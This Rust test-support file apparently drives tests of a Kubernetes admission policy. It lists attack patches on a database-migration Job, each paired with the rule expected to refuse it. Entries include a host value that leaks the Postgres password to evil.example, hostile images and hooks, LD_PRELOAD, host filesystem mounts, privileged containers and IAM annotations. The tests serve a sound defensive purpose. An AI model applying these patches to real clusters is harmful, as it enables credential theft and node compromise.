//! What somebody who may create Jobs would try, each as a change to a Job of the release.

use serde_json::{Value, json};

use crate::support::admission::{DIGEST, IMAGE};

/// In the Job: its container, its pod, and the labels and annotations of the pod.
pub(crate) const CONTAINER: &str = "/spec/template/spec/containers/0";
pub(crate) const POD: &str = "/spec/template/spec";
const METADATA: &str = "/spec/template/metadata";

pub(crate) fn secrets_of_others() -> Value {
    json!([{"secretRef": {"name": "of-somebody-else"}}])
}

/// What it is, what it changes in a good Job, and with which rule's words it is refused.
type Attack = (&'static str, Vec<(&'static str, Value)>, &'static str);

#[expect(clippy::too_many_lines, reason = "a table")]
pub(crate) fn attacks() -> Vec<Attack> {
    let image = "the image must be";
    let one = "the Job must have one container";
    let program = "the image's own program must run";
    let secrets = "POSTGRES_USER and POSTGRES_PASSWORD must come from";
    let variables = "every variable must be set as the parameters have it";
    let volumes = "every volume must be a ConfigMap or Secret of the parameters";
    let mounts = "every volume must be mounted whole";
    let account = "the ServiceAccount must be run-migrations";
    let host = "the pod must have its node, network, names";
    let node = "the pod must take any node of its kind";
    let user = "the pod must run as a user that is not root";
    let marks = "the pod's labels and annotations must be";
    let job = "the Job must make one pod at a time";
    let at = |place: &str, field: &str| -> &'static str { format!("{place}/{field}").leak() };
    let (of_container, of_pod) = (|field: &str| at(CONTAINER, field), |field: &str| at(POD, field));
    let (label, annotation) = (
        |key: &str| at(METADATA, &format!("labels/{key}")),
        |key: &str| at(METADATA, &format!("annotations/{key}")),
    );
    let secret = |name: &str, key: &str| json!({"secretKeyRef": {"name": name, "key": key}});
    let variable = |name: &str, value: &str| json!({"name": name, "value": value});
    let mounted = |volume: Value, path: &str| {
        vec![
            (of_pod("volumes/1"), volume),
            (of_container("volumeMounts/1"), json!({"name": "x", "mountPath": path})),
        ]
    };
    let field = |path: &str| json!({"fieldRef": {"fieldPath": path}});
    vec![
        ("another image", vec![(of_container("image"), json!(format!("evil.example/x@{DIGEST}")))], image),
        ("a tag", vec![(of_container("image"), json!(format!("{IMAGE}:latest")))], image),
        ("no tag", vec![(of_container("image"), json!(IMAGE))], image),
        ("a tag and a digest", vec![(of_container("image"), json!(format!("{IMAGE}:x@{DIGEST}")))], image),
        ("a longer name", vec![(of_container("image"), json!(format!("{IMAGE}-evil@{DIGEST}")))], image),
        ("a longer path", vec![(of_container("image"), json!(format!("{IMAGE}/evil@{DIGEST}")))], image),
        (
            "the name behind another",
            vec![(of_container("image"), json!(format!("evil.example/{IMAGE}@{DIGEST}")))],
            image,
        ),
        ("half a digest", vec![(of_container("image"), json!(format!("{IMAGE}@sha256:abab")))], image),
        ("a second container", vec![(of_pod("containers/1"), json!({"name": "x", "image": "busybox"}))], one),
        (
            "another container",
            vec![(of_container("name"), json!("x")), ("/spec/podFailurePolicy", Value::Null)],
            one,
        ),
        (
            "an init container",
            vec![(of_pod("initContainers"), json!([{"name": "x", "image": "busybox"}]))],
            one,
        ),
        (
            "a sidecar",
            vec![(
                of_pod("initContainers"),
                json!([{"name": "x", "image": "busybox", "restartPolicy": "Always"}]),
            )],
            one,
        ),
        ("another program", vec![(of_container("command"), json!(["/x"]))], program),
        ("a working directory", vec![(of_container("workingDir"), json!("/proc/1"))], program),
        (
            "a hook",
            vec![(
                of_container("lifecycle"),
                json!({"postStart": {"httpGet": {"host": "evil.example", "port": 80}}}),
            )],
            program,
        ),
        (
            "a last hook",
            vec![(of_container("lifecycle"), json!({"preStop": {"exec": {"command": ["/x"]}}}))],
            program,
        ),
        (
            "a liveness probe",
            vec![(of_container("livenessProbe"), json!({"exec": {"command": ["/x"]}}))],
            program,
        ),
        (
            "a readiness probe",
            vec![(of_container("readinessProbe"), json!({"httpGet": {"host": "evil.example", "port": 80}}))],
            program,
        ),
        (
            "a startup probe",
            vec![(of_container("startupProbe"), json!({"tcpSocket": {"port": 80}}))],
            program,
        ),
        (
            "a port of the node",
            vec![(of_container("ports"), json!([{"containerPort": 80, "hostPort": 80}]))],
            program,
        ),
        ("a terminal", vec![(of_container("stdin"), json!(true))], program),
        (
            "no words",
            vec![(of_container("args"), Value::Null)],
            "the job's arguments must hold one of the commands",
        ),
        (
            "words that are none of the job's",
            vec![(of_container("args"), json!(["--help"]))],
            "the job's arguments",
        ),
        (
            "a variable as revision",
            vec![(of_container("args/1"), json!("$(POSTGRES_PASSWORD)"))],
            "no reference to a variable",
        ),
        ("all variables of a Secret", vec![(of_container("envFrom"), secrets_of_others())], secrets),
        (
            "all variables of a ConfigMap",
            vec![(of_container("envFrom"), json!([{"configMapRef": {"name": "x"}}]))],
            secrets,
        ),
        ("another Secret", vec![(of_container("env/5/valueFrom"), secret("other", "password"))], secrets),
        ("another key", vec![(of_container("env/5/valueFrom"), secret("run-migrations", "token"))], secrets),
        (
            "the password as the role",
            vec![(of_container("env/4/valueFrom"), secret("run-migrations", "password"))],
            secrets,
        ),
        (
            "the password as the database",
            vec![(
                of_container("env/1"),
                json!({"name": "POSTGRES_DB", "valueFrom": secret("run-migrations", "password")}),
            )],
            secrets,
        ),
        (
            "a variable of the pod",
            vec![(
                of_container("env/6"),
                json!({"name": "POSTGRES_USER", "valueFrom": field("spec.nodeName")}),
            )],
            secrets,
        ),
        ("another host", vec![(of_container("env/0/value"), json!("evil.example"))], variables),
        (
            "another host behind the first",
            vec![(of_container("env/6"), variable("POSTGRES_HOST", "evil.example"))],
            variables,
        ),
        (
            "a host through a variable",
            vec![(of_container("env/0/value"), json!("$(POSTGRES_PASSWORD).evil.example"))],
            variables,
        ),
        ("another database", vec![(of_container("env/1/value"), json!("postgres"))], variables),
        ("no encryption", vec![(of_container("env/2/value"), json!("disable"))], variables),
        (
            "no word of encryption",
            vec![(of_container("env/2"), variable("POSTGRES_HOST", "postgres.example.internal"))],
            variables,
        ),
        ("other authorities", vec![(of_container("env/3/value"), json!("system"))], variables),
        (
            "other scripts",
            vec![(of_container("env/6"), variable("MIGRATIONS_DIR", "/etc/postgres-ca"))],
            variables,
        ),
        (
            "a program for the password",
            vec![(of_container("env/6"), variable("POSTGRES_PASSWORD_COMMAND", "env"))],
            variables,
        ),
        ("a library", vec![(of_container("env/6"), variable("LD_PRELOAD", "/x.so"))], variables),
        ("a variable that is empty", vec![(of_container("env/6"), json!({"name": "PGOPTIONS"}))], variables),
        (
            "another Secret as volume",
            mounted(json!({"name": "x", "secret": {"secretName": "other"}}), "/x"),
            volumes,
        ),
        (
            "another ConfigMap as volume",
            mounted(json!({"name": "x", "configMap": {"name": "other"}}), "/migrations"),
            volumes,
        ),
        (
            "a token as volume",
            mounted(
                json!({"name": "x", "projected": {"sources": [{"serviceAccountToken": {"path": "t"}}]}}),
                "/x",
            ),
            volumes,
        ),
        (
            "a Secret in a projection",
            mounted(json!({"name": "x", "projected": {"sources": [{"secret": {"name": "other"}}]}}), "/x"),
            volumes,
        ),
        ("the node's files", mounted(json!({"name": "x", "hostPath": {"path": "/"}}), "/x"), volumes),
        ("an empty directory", mounted(json!({"name": "x", "emptyDir": {}}), "/migrations"), volumes),
        (
            "a claim",
            mounted(json!({"name": "x", "persistentVolumeClaim": {"claimName": "data"}}), "/x"),
            volumes,
        ),
        (
            "a driver's volume",
            mounted(json!({"name": "x", "csi": {"driver": "secrets-store.csi.k8s.io"}}), "/x"),
            volumes,
        ),
        (
            "a share",
            mounted(json!({"name": "x", "nfs": {"server": "evil.example", "path": "/"}}), "/migrations"),
            volumes,
        ),
        (
            "own scripts in the authorities' ConfigMap",
            vec![(of_container("volumeMounts/0/mountPath"), json!("/migrations"))],
            mounts,
        ),
        (
            "it twice",
            vec![(
                of_container("volumeMounts/1"),
                json!({"name": "postgres-ca", "mountPath": "/migrations"}),
            )],
            mounts,
        ),
        (
            "another key as the authorities",
            vec![(of_pod("volumes/0/configMap/items/0"), json!({"key": "other", "path": "ca.crt"}))],
            volumes,
        ),
        ("a part of it", vec![(of_container("volumeMounts/0/subPath"), json!("x"))], mounts),
        (
            "a part by a variable",
            vec![(of_container("volumeMounts/0/subPathExpr"), json!("$(POSTGRES_PASSWORD)"))],
            mounts,
        ),
        (
            "another ServiceAccount",
            vec![(of_pod("serviceAccountName"), json!("admin")), (of_pod("serviceAccount"), json!("admin"))],
            account,
        ),
        ("the default ServiceAccount", vec![(of_pod("serviceAccountName"), Value::Null)], account),
        ("the ServiceAccount's token", vec![(of_pod("automountServiceAccountToken"), json!(true))], account),
        ("the token by default", vec![(of_pod("automountServiceAccountToken"), Value::Null)], account),
        (
            "another Secret to pull with",
            vec![(of_pod("imagePullSecrets"), json!([{"name": "other"}]))],
            account,
        ),
        ("the node's network", vec![(of_pod("hostNetwork"), json!(true))], host),
        ("the node's processes", vec![(of_pod("hostPID"), json!(true))], host),
        ("the node's memory", vec![(of_pod("hostIPC"), json!(true))], host),
        ("shared processes", vec![(of_pod("shareProcessNamespace"), json!(true))], host),
        ("a node past the scheduler", vec![(of_pod("nodeName"), json!("node-1"))], host),
        (
            "another address for the host",
            vec![(
                of_pod("hostAliases"),
                json!([{"ip": "192.0.2.1", "hostnames": ["postgres.example.internal"]}]),
            )],
            host,
        ),
        // Under another's name, whoever trusts names would take it for that.
        ("another name", vec![(of_pod("hostname"), json!("postgres"))], host),
        ("a name in a Service", vec![(of_pod("subdomain"), json!("postgres"))], host),
        ("a whole name", vec![(of_pod("setHostnameAsFQDN"), json!(true))], host),
        ("another name server", vec![(of_pod("dnsConfig"), json!({"nameservers": ["192.0.2.1"]}))], host),
        ("the node's name server", vec![(of_pod("dnsPolicy"), json!("Default"))], host),
        ("the system's priority", vec![(of_pod("priorityClassName"), json!("system-node-critical"))], node),
        ("another priority", vec![(of_pod("priorityClassName"), json!("high"))], node),
        ("a node pool of others", vec![(of_pod("nodeSelector/pool"), json!("secret"))], node),
        ("a node by its name", vec![(of_pod("nodeSelector/kubernetes.io~1hostname"), json!("node-1"))], node),
        ("a node that is set apart", vec![(of_pod("tolerations"), json!([{"operator": "Exists"}]))], node),
        (
            "a node beside a pod",
            vec![(
                of_pod("affinity"),
                json!({"podAffinity": {"requiredDuringSchedulingIgnoredDuringExecution": [
                    {"topologyKey": "kubernetes.io/hostname", "labelSelector": {"matchLabels": {"app": "db"}}}]}}),
            )],
            node,
        ),
        ("another runtime", vec![(of_pod("runtimeClassName"), json!("privileged"))], node),
        ("another scheduler", vec![(of_pod("schedulerName"), json!("own"))], node),
        ("root's group", vec![(of_pod("securityContext/runAsGroup"), json!(0))], user),
        ("root's group for files", vec![(of_pod("securityContext/fsGroup"), json!(0))], user),
        ("more groups", vec![(of_pod("securityContext/supplementalGroups"), json!([0, 999]))], user),
        (
            "the image's groups",
            vec![(of_pod("securityContext/supplementalGroupsPolicy"), json!("Merge"))],
            user,
        ),
        ("root's group in the container", vec![(of_container("securityContext/runAsGroup"), json!(0))], user),
        ("root", vec![(of_pod("securityContext/runAsUser"), json!(0))], user),
        ("perhaps root", vec![(of_pod("securityContext/runAsNonRoot"), Value::Null)], user),
        ("root in the container", vec![(of_container("securityContext/runAsUser"), json!(0))], user),
        ("all rights", vec![(of_container("securityContext"), json!({"privileged": true}))], user),
        ("more rights", vec![(of_container("securityContext/allowPrivilegeEscalation"), Value::Null)], user),
        ("a capability", vec![(of_container("securityContext/capabilities/add"), json!(["NET_RAW"]))], user),
        (
            "a root to write to",
            vec![(of_container("securityContext/readOnlyRootFilesystem"), json!(false))],
            user,
        ),
        ("no seccomp", vec![(of_pod("securityContext/seccompProfile/type"), json!("Unconfined"))], user),
        (
            "no seccomp in the container",
            vec![(of_container("securityContext/seccompProfile"), json!({"type": "Unconfined"}))],
            user,
        ),
        (
            "another verdict",
            vec![(of_container("terminationMessagePath"), json!("/etc/postgres-ca/ca.crt"))],
            "the job's verdict",
        ),
        ("no label", vec![(label("app.kubernetes.io~1name"), json!("x"))], marks),
        ("another NetworkPolicy's label", vec![(label("app.kubernetes.io~1component"), json!("web"))], marks),
        ("a label of Kubernetes' domain", vec![(label("batch.kubernetes.io~1x"), json!("y"))], marks),
        ("a mesh's label", vec![(label("sidecar.istio.io~1inject"), json!("true"))], marks),
        (
            "a mesh's image",
            vec![(annotation("sidecar.istio.io~1proxyImage"), json!("evil.example/x"))],
            marks,
        ),
        ("an agent's role", vec![(annotation("iam.amazonaws.com~1role"), json!("admin"))], marks),
        ("an agent's secrets", vec![(annotation("vault.hashicorp.com~1agent-inject"), json!("true"))], marks),
        (
            "another main container",
            vec![(annotation("kubectl.kubernetes.io~1default-container"), json!("x"))],
            marks,
        ),
        (
            "many pods",
            vec![
                ("/spec/parallelism", json!(50)),
                ("/spec/completions", json!(50)),
                ("/spec/podReplacementPolicy", Value::Null),
            ],
            job,
        ),
        (
            "pods of others",
            vec![
                ("/spec/manualSelector", json!(true)),
                ("/spec/selector", json!({"matchLabels": {"app.kubernetes.io/name": "run-migrations"}})),
            ],
            job,
        ),
    ]
}
